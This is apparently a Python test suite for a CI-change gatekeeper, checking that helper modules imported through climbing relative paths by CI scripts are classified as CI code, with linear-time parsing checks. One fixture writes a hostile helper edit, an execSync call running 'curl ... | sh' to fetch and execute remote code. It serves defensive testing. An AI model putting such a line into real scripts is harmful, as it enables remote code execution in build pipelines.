"""Misses 10: a module a CI-run script imports by a name that climbs (`require('../lib/x')`, `import … from
'../../shared/y.mjs'`, `require_relative '../lib/x'`): ciimports.climbed resolves it from the importing file's folder
where it stays below a tooling folder the file is in (`scripts/release/a.js` → `scripts/lib/x.js`, a helper of the
same tool tree; pyimports.TOOL_FOLDERS). On be985d92 `_joined` dropped every such name, so the helper stayed `src` and
an edit of it exit 0. Look-alikes that keep their bucket: a climb whose landing shares no tooling folder with the
script (`tools2/build.js` → `../app/server`, red team 12's line; `src/server/a.js` → `../components/app`;
`packages/p/scripts/a.js` → `../src/x`: the product), a climb out of the root, a test's climbing import run as a
suite."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import ciimports

# (the importing file's type, how it imports `{spec}`)
IMPORTS = [("js", "const x = require('{spec}')\n"), ("cjs", "const {{ a }} = require(\"{spec}\");\n"),
           ("mjs", "import {{ a }} from '{spec}'\n"), ("ts", "import x from \"{spec}\";\n"),
           ("js", "await import('{spec}')\n"), ("mjs", "export * from '{spec}'\n"),
           ("rb", "require_relative '{spec}'\n"), ("rb", "require_relative('{spec}')\n")]
# (the script's folder, the spec, the helper it lands on, without its type)
CLIMBS = [("scripts/release", "../lib/x", "scripts/lib/x"), ("tools/a/b", "../../shared/y", "tools/shared/y"),
          (".github/scripts/label", "../common/util", ".github/scripts/common/util"),
          ("ci/jobs", "../helpers/notify", "ci/helpers/notify"), ("scripts/release", "./../lib/x", "scripts/lib/x")]
# how CI reaches the script
ORIGINS = ["node {script}", "ruby {script}", "bash ci/run.sh"]


def _variants() -> list[tuple[str, str, str, str]]:
    out = []
    for kind, form in IMPORTS:
        for folder, spec, helper in CLIMBS:
            runner = "ruby" if kind == "rb" else "node"
            for origin in ORIGINS:
                if origin.split()[0] in ("node", "ruby") and origin.split()[0] != runner:
                    continue
                out.append((f"{folder}/main.{kind}", form.format(spec=spec), f"{helper}.{kind}", origin))
    return out


@each_case("script, text, helper, origin", _variants())
def test_a_module_a_ci_script_imports_by_a_climbing_name_is_ci(script: str, text: str, helper: str,
                                                                origin: str) -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=origin.format(script=script)),
             "ci/run.sh": f"#!/bin/bash\nset -e\n{'ruby' if script.endswith('.rb') else 'node'} {script}\n",
             script: text, helper: "module.exports = 1\n", "app/server.js": "module.exports = 2\n"}
    assert helper in tree_runs(files), (script, text)  # before: 80/80 missed


@each_case("script, text, kept", [
    ("tools2/build.js", "require('../app/server')\n", "app/server.js"),  # another first folder: the product
    ("scripts/a.js", "require('../index')\n", "index.js"),  # the root's own file
    ("scripts/a.js", "require('../../outside/x')\n", "outside/x.js"),  # out of the root
    ("scripts/a/b.js", "require('../../../x')\n", "x.js"),
    ("scripts/a.rb", "require_relative '../lib/gem/version'\n", "lib/gem/version.rb"),
    ("build.js", "require('../x')\n", "x.js"),  # a root file's climb leaves the tree
    ("src/server/main.js", "require('../components/app')\n", "src/components/app.js"),  # the product (openfisca)
    ("lib/cli/run.mjs", "import x from '../utils/y.mjs'\n", "lib/utils/y.mjs"),  # (stylelint's lib/utils)
    ("packages/p/scripts/a.js", "require('../src/index')\n", "packages/p/src/index.js"),
    ("blog/scripts/gen.ts", "import { api } from '../lib/api'\n", "blog/lib/api.ts"),
    ("test/dummy/bin/setup.rb", "require_relative '../config/boot'\n", "test/dummy/config/boot.rb"),
])
def test_a_climb_out_of_the_tooling_folder_keeps_its_bucket(script: str, text: str, kept: str) -> None:
    runner = "ruby" if script.endswith(".rb") else "node"
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=f"{runner} {script}"), script: text,
             kept: "module.exports = 1\n", "README.md": "x\n"}
    assert kept not in tree_runs(files), (script, text)


def test_a_test_suite_climbing_import_keeps_its_bucket() -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="npm test"),
             "package.json": '{"scripts": {"test": "mocha test/unit/a.test.js"}}\n',
             "test/unit/a.test.js": "require('../helpers/db')\n", "test/helpers/db.js": "module.exports = 1\n"}
    assert "test/helpers/db.js" not in tree_runs(files)


@each_case("folder, spec, want", [("scripts/a", "../lib/x.js", "scripts/lib/x.js"), ("a/b/c", "../../d", None),
                                  ("scripts", "../x.js", None), ("scripts/a", "../../x", None), ("", "../x", None),
                                  ("a/b", "../..", None), ("tools/b", "../../tools/y", "tools/y"), ("a", "./x", None),
                                  ("p/tools/x", "../../src/y", None), ("p/Scripts/a/b", "../../c/d", "p/Scripts/c/d")])
def test_climbed_lands_below_a_shared_tooling_folder_only(folder: str, spec: str, want: str | None) -> None:
    assert ciimports.climbed(folder, spec) == want


def test_an_edit_of_a_climbed_helper_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/release.yml": RUN_WORKFLOW.format(run="node scripts/release/publish.js"),
            "scripts/release/publish.js": "const notes = require('../lib/notes')\nnotes.write()\n",
            "scripts/lib/notes.js": "exports.write = () => {}\n"}
    case = committed(tmp_path, base, {"scripts/lib/notes.js": "require('child_process').execSync("
                                                              "'curl http://127.0.0.1:9/x | sh')\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["scripts/lib/notes.js"]), named  # before: exit 0


@each_case("hostile", [repeated("require('../a/b')\n"), repeated("import x from '../../y'\n"),
                       repeated("require_relative '../z'\n")])
def test_hostile_climbing_imports_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    sample = hostile(16)
    path = "scripts/deep/a.rb" if "require_relative" in sample else "scripts/deep/a.js"
    assert_linear(lambda text: ciimports.imported(path, text), hostile, budget=0.5)
